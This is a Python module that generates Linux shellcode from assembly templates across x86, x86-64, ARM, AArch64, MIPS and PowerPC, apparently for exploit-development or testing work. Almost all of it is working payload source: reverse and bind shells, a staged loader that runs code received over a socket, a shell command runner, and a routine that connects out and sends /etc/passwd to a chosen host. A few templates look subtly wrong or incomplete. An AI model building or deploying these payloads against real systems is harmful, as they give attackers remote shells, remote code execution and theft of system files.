# SPDX-License-Identifier: GPL-2.0-or-later
"""Shellcode of our own, after the classic designs, assembled by nasm and GNU as: source texts with places for values."""
import os, shutil, struct, subprocess, tempfile

GNU = {'arm': 'arm-linux-gnueabi', 'aarch64': 'aarch64-linux-gnu', 'mips': 'mips-linux-gnu', 'mipsel': 'mipsel-linux-gnu',
       'powerpc': 'powerpc-linux-gnu'}


def missing():
    """Assemblers that are not here, by language."""
    absent = {l: f'{p}-as is not installed' for l, p in GNU.items() if not shutil.which(p + '-as')}
    if not shutil.which('nasm'):
        absent.update({l: 'nasm is not installed' for l in ('x86', 'x86-64')})
    return absent


def assemble(language, source):
    with tempfile.TemporaryDirectory() as folder:
        text, code, raw = (os.path.join(folder, n) for n in ('a.s', 'a.o', 'a.bin'))
        with open(text, 'w') as file:
            file.write(source)
        if language in ('x86', 'x86-64'):
            subprocess.run(['nasm', '-f', 'bin', '-o', raw, text], check=True)
        else:
            tool = GNU[language]
            subprocess.run([tool + '-as', '-o', code, text], check=True)
            subprocess.run([tool + '-objcopy', '-O', 'binary', '-j', '.text', code, raw], check=True)
        with open(raw, 'rb') as file:
            return file.read()


def word(data, big=False):
    return int.from_bytes(data, 'big' if big else 'little')


def values(address, port, command):
    """What the texts' places mean: the address as bytes stand in memory, and so on."""
    packed = bytes(int(x) for x in address.split('.'))
    return {
        'IP': hex(word(packed)), 'IP_BIG': hex(word(packed, True)), 'PORT': str(port),
        'PORT_NET': hex(word(struct.pack('>H', port))), 'PORT_IN': hex(word(b'\x02\0' + struct.pack('>H', port))),
        'PORT_IN_BIG': hex(word(b'\0\x02' + struct.pack('>H', port), True)), 'COMMAND': command,
        'IP0': str(packed[0]), 'IP1': str(packed[1]), 'IP2': str(packed[2]), 'IP3': str(packed[3]),
    }


SHELL_64 = '''
    push 3
    pop rsi
again: dec esi
    push 33
    pop rax
    syscall
    jnz again
    xor edx, edx
    push rdx
    mov rax, 0x68732f2f6e69622f
    push rax
    mov rdi, rsp
    push rdx
    push rdi
    mov rsi, rsp
    push 59
    pop rax
    syscall
'''
SOCKET_64 = '''
BITS 64
    push 41
    pop rax
    cdq
    push 2
    pop rdi
    push 1
    pop rsi
    syscall
    xchg eax, edi
'''
SHELL_32 = '''
    push 2
    pop ecx
again: mov al, 63
    int 0x80
    dec ecx
    jns again
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
'''
SOCKETCALL_32 = '''
BITS 32
    xor ebx, ebx
    mul ebx
    push ebx
    inc ebx
    push ebx
    push 2
    mov ecx, esp
    mov al, 0x66
    int 0x80
    xchg eax, esi
'''
# jmp, call, pop: sh -c with a command that stands behind the code
RUN_32 = '''
BITS 32
    jmp down
up: pop esi
    xor eax, eax
    mov [esi + end - text], al
    lea edi, [esi + end - text + 1]
    push eax
    push 0x632d
    mov ecx, esp
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    cdq
    push edx
    push esi
    push ecx
    push ebx
    mov ecx, esp
    mov al, 11
    int 0x80
down: call up
text: db "{COMMAND}"
end: db "X"
'''
RUN_64 = '''
BITS 64
    xor edx, edx
    lea rdi, [rel shell]
    lea rcx, [rel option]
    lea rbx, [rel text]
    push rdx
    push rbx
    push rcx
    push rdi
    mov rsi, rsp
    push 59
    pop rax
    syscall
shell: db "/bin/sh", 0
option: db "-c", 0
text: db "{COMMAND}", 0
'''

# name, language, kind, source
DESIGNS = [
    ('reverse', 'x86-64', 'connect', SOCKET_64 + '''
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
''' + SHELL_64),
    ('bind', 'x86-64', 'listen', SOCKET_64 + '''
    push rdx
    push rdx
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 49
    pop rax
    syscall
    push 1
    pop rsi
    push 50
    pop rax
    syscall
    xor esi, esi
    cdq
    push 43
    pop rax
    syscall
    xchg eax, edi
''' + SHELL_64),
    ('staged', 'x86-64', 'connect', SOCKET_64 + '''
    push rdi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
    push 9
    pop rax
    xor edi, edi
    mov esi, 4096
    push 7
    pop rdx
    push 0x22
    pop r10
    push -1
    pop r8
    xor r9, r9
    syscall
    xchg rsi, rax
    pop rdi
    pop rdi
    mov edx, 4096
    xor eax, eax
    syscall
    test eax, eax
    jle out
    jmp rsi
out: push 60
    pop rax
    xor edi, edi
    syscall
'''),
    ('command', 'x86-64', 'run', RUN_64),
    ('file', 'x86-64', 'connect', SOCKET_64 + '''
    push rdi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov rsi, rsp
    push 16
    pop rdx
    push 42
    pop rax
    syscall
    lea rdi, [rel name]
    xor esi, esi
    push 2
    pop rax
    syscall
    xchg eax, edi
    sub rsp, 256
    mov rsi, rsp
    mov edx, 256
    xor eax, eax
    syscall
    xchg eax, edx
    mov rdi, [rsp + 264]
    push 1
    pop rax
    syscall
    push 60
    pop rax
    xor edi, edi
    syscall
name: db "/etc/passwd", 0
'''),
    ('datagram', 'x86-64', 'connect', '''
BITS 64
    push 41
    pop rax
    cdq
    push 2
    pop rdi
    push 2
    pop rsi
    syscall
    xchg eax, edi
    push rdx
    mov dword [rsp + 4], {IP}
    mov dword [rsp], {PORT_IN}
    mov r8, rsp
    push 16
    pop r9
    lea rsi, [rel text]
    push 5
    pop rdx
    xor r10, r10
    push 44
    pop rax
    syscall
    push 60
    pop rax
    xor edi, edi
    syscall
text: db "hello"
'''),
    ('reverse', 'x86', 'connect', SOCKETCALL_32 + '''
    push {IP}
    push {PORT_IN}
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    push 3
    pop ebx
    push 0x66
    pop eax
    int 0x80
    mov ebx, esi
''' + SHELL_32),
    ('bind', 'x86', 'listen', SOCKETCALL_32 + '''
    push edx
    push edx
    push {PORT_IN}
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    inc ebx
    push 0x66
    pop eax
    int 0x80
    push edx
    push esi
    mov ecx, esp
    mov bl, 4
    mov al, 0x66
    int 0x80
    push edx
    push edx
    push esi
    mov ecx, esp
    mov bl, 5
    mov al, 0x66
    int 0x80
    xchg eax, ebx
''' + SHELL_32),
    ('listen without bind', 'x86', 'listen any', SOCKETCALL_32 + '''
    push 1
    push esi
    mov ecx, esp
    mov bl, 4
    push 0x66
    pop eax
    int 0x80
    push edx
    push edx
    push esi
    mov ecx, esp
    mov bl, 5
    push 0x66
    pop eax
    int 0x80
    xchg eax, ebx
''' + SHELL_32),
    ('reverse by plain calls', 'x86', 'connect', '''
BITS 32
    xor edx, edx
    push 2
    pop ebx
    push 1
    pop ecx
    mov eax, 359
    int 0x80
    xchg eax, ebx
    push {IP}
    push {PORT_IN}
    mov ecx, esp
    push 16
    pop edx
    mov eax, 362
    int 0x80
    xor eax, eax
''' + SHELL_32),
    ('command', 'x86', 'run', RUN_32),
    ('reverse', 'aarch64', 'connect', '''
    mov x8, #198
    mov x0, #2
    mov x1, #1
    mov x2, xzr
    svc #0
    mov x12, x0
    adr x1, where
    mov x2, #16
    mov x8, #203
    svc #0
    mov x19, #2
1:  mov x0, x12
    mov x1, x19
    mov x2, xzr
    mov x8, #24
    svc #0x1337
    subs x19, x19, #1
    b.pl 1b
    adr x0, shell
    stp x0, xzr, [sp, #-16]!
    mov x1, sp
    mov x2, xzr
    mov x8, #221
    svc #0
where: .word {PORT_IN}, {IP}, 0, 0
shell: .asciz "/bin/sh"
'''),
    ('bind', 'aarch64', 'listen', '''
    mov x8, #198
    mov x0, #2
    mov x1, #1
    mov x2, xzr
    svc #0
    mov x12, x0
    adr x1, where
    mov x2, #16
    mov x8, #200
    svc #0
    mov x0, x12
    mov x1, #1
    mov x8, #201
    svc #0
    mov x0, x12
    mov x1, xzr
    mov x2, xzr
    mov x8, #202
    svc #0
    mov x0, xzr
    mov x8, #93
    svc #0
where: .word {PORT_IN}, 0, 0, 0
'''),
    ('reverse', 'arm', 'connect', '''
    .syntax unified
    .arm
    mov r0, #2
    mov r1, #1
    mov r2, #0
    ldr r7, =281
    svc #0
    mov r6, r0
    adr r1, where
    mov r2, #16
    mov r7, #280
    add r7, r7, #3
    svc #0
    mov r4, #2
1:  mov r0, r6
    mov r1, r4
    mov r7, #63
    svc #0
    subs r4, r4, #1
    bpl 1b
    adr r0, shell
    mov r2, #0
    push {{r0, r2}}
    mov r1, sp
    mov r7, #11
    svc #0
where: .word {PORT_IN}, {IP}, 0, 0
shell: .asciz "/bin/sh"
    .align 2
    .ltorg
'''),
    ('reverse, in Thumb', 'arm', 'connect', '''
    .syntax unified
    .arm
    add r6, pc, #1
    bx r6
    .thumb
    movs r0, #2
    movs r1, #1
    subs r2, r2, r2
    movs r7, #200
    adds r7, #81
    svc #1
    mov r6, r0
    adr r1, where
    movs r2, #16
    adds r7, #2
    svc #1
    movs r4, #2
1:  mov r0, r6
    mov r1, r4
    movs r7, #63
    svc #1
    subs r4, #1
    bpl 1b
    adr r0, shell
    subs r2, r2, r2
    push {{r0, r2}}
    mov r1, sp
    movs r7, #11
    svc #1
    .align 2
where: .word {PORT_IN}, {IP}
shell: .asciz "/bin/sh"
'''),
    ('bind, in Thumb', 'arm', 'listen', '''
    .syntax unified
    .arm
    add r3, pc, #1
    bx r3
    .thumb
    movs r0, #2
    movs r1, #1
    subs r2, r2, r2
    movs r7, #200
    adds r7, #81
    svc #1
    mov r4, r0
    adr r1, where
    movs r2, #16
    adds r7, #1
    svc #1
    mov r0, r4
    movs r1, #2
    adds r7, #2
    svc #1
    mov r0, r4
    subs r1, r1, r1
    subs r2, r2, r2
    adds r7, #1
    svc #1
    movs r0, #0
    movs r7, #1
    svc #1
    .align 2
where: .word {PORT_IN}, 0, 0, 0
'''),
    ('reverse, OABI', 'arm', 'connect, no oracle', '''
    .syntax unified
    .arm
    mov r0, #2
    mov r1, #1
    mov r2, #0
    push {{r0, r1, r2}}
    mov r0, #1
    mov r1, sp
    svc #0x900066
    mov r6, r0
    adr r1, where
    mov r2, #16
    push {{r0, r1, r2}}
    mov r0, #3
    mov r1, sp
    svc #0x900066
    mov r0, #0
    svc #0x900001
where: .word {PORT_IN}, {IP}, 0, 0
'''),
]

MIPS = '''
    .set noreorder
    .set noat
    slti $a2, $zero, -1
1:  bltzal $a2, 1b
    slti $a2, $zero, -1
    addiu $s7, $ra, where - 1b - 8
    li $a0, {A}
    li $a1, {B}
    li $a2, 0
    li $v0, 4183
    syscall 0x40404
    move $s0, $v0
{CALLS}
    li $s1, 2
2:  move $a0, $s0
    move $a1, $s1
    li $v0, 4063
    syscall 0x40404
    bgtz $s1, 2b
    addiu $s1, $s1, -1
    addiu $a0, $s7, 16
    sw $a0, -8($sp)
    sw $zero, -4($sp)
    addiu $a1, $sp, -8
    li $a2, 0
    li $v0, 4011
    syscall 0x40404
where: {WHERE}
shell: .asciz "/bin/sh"
    .align 2
'''
CONNECT_MIPS = '''
    move $a0, $s0
    move $a1, $s7
    li $a2, 16
    li $v0, 4170
    syscall 0x40404
'''
# the address is written by halves and words that are not aligned, as many do
CONNECT_UNALIGNED = '''
    li $t0, 2
    sh $t0, -30($sp)
    ori $t1, $zero, {PORT_NET_MIPS}
    sh $t1, -28($sp)
    lui $t2, {IP_HIGH}
    ori $t2, $t2, {IP_LOW}
    sw $t2, -26($sp)
    addiu $a1, $sp, -30
    move $a0, $s0
    li $a2, 16
    li $v0, 4170
    syscall 0x40404
'''
LISTEN_MIPS = '''
    move $a0, $s0
    move $a1, $s7
    li $a2, 16
    li $v0, 4169
    syscall 0x40404
    move $a0, $s0
    li $a1, 1
    li $v0, 4174
    syscall 0x40404
    move $a0, $s0
    li $a1, 0
    li $a2, 0
    li $v0, 4168
    syscall 0x40404
    move $s0, $v0
'''
POWERPC = '''
    li 3, 2
    li 4, 1
    li 5, 0
    li 0, 326
    sc
    mr 31, 3
    bl 1f
1:  mflr 30
    addi 30, 30, where - 1b
    mr 4, 30
    li 5, 16
    li 0, {NUMBER}
    sc
{MORE}
    li 29, 2
2:  mr 3, 31
    mr 4, 29
    li 0, 63
    sc
    addic. 29, 29, -1
    bge 2b
    addi 3, 30, 16
    stwu 1, -32(1)
    stw 3, 8(1)
    li 5, 0
    stw 5, 12(1)
    addi 4, 1, 8
    li 0, 11
    sc
where: {WHERE}
shell: .asciz "/bin/sh"
    .align 2
'''
LISTEN_POWERPC = '''
    mr 3, 31
    li 4, 1
    li 0, 329
    sc
    mr 3, 31
    li 4, 0
    li 5, 0
    li 0, 330
    sc
    mr 31, 3
'''


def others():
    """The designs of processors whose text hangs on the byte order."""
    for language in ('mips', 'mipsel'):
        big = language == 'mips'
        there = '.word {PORT_IN_BIG}, {IP_BIG}, 0, 0' if big else '.word {PORT_IN}, {IP}, 0, 0'
        here = '.word {PORT_IN_BIG}, 0, 0, 0' if big else '.word {PORT_IN}, 0, 0, 0'
        for name, kind, calls, where in (('reverse', 'connect', CONNECT_MIPS, there), ('bind', 'listen', LISTEN_MIPS, here),
                                         ('reverse, unaligned', 'connect', CONNECT_UNALIGNED, there)):
            yield name, language, kind, MIPS.replace('{CALLS}', calls).replace('{WHERE}', where).replace('{A}', '2') \
                .replace('{B}', '2')  # SOCK_STREAM is 2 on MIPS
    for name, kind, number, more, where in (
            ('reverse', 'connect', '328', '', '.long {PORT_IN_BIG}, {IP_BIG}, 0, 0'),
            ('bind', 'listen', '327', LISTEN_POWERPC, '.long {PORT_IN_BIG}, 0, 0, 0')):
        yield name, 'powerpc', kind, POWERPC.replace('{NUMBER}', number).replace('{MORE}', more).replace('{WHERE}', where)


def build(design, address, port, command):
    name, language, kind, source = design
    given = values(address, port, command)
    big = language == 'mips'
    packed = bytes(int(x) for x in address.split('.'))
    given['PORT_NET_MIPS'] = str(port if big else word(struct.pack('>H', port)))
    whole = word(packed, big)
    given['IP_HIGH'], given['IP_LOW'] = hex(whole >> 16), hex(whole & 0xffff)
    for key, value in given.items():
        source = source.replace('{' + key + '}', value)
    return assemble(language, source.replace('{{', '{').replace('}}', '}'))


def all_designs():
    return DESIGNS + list(others())
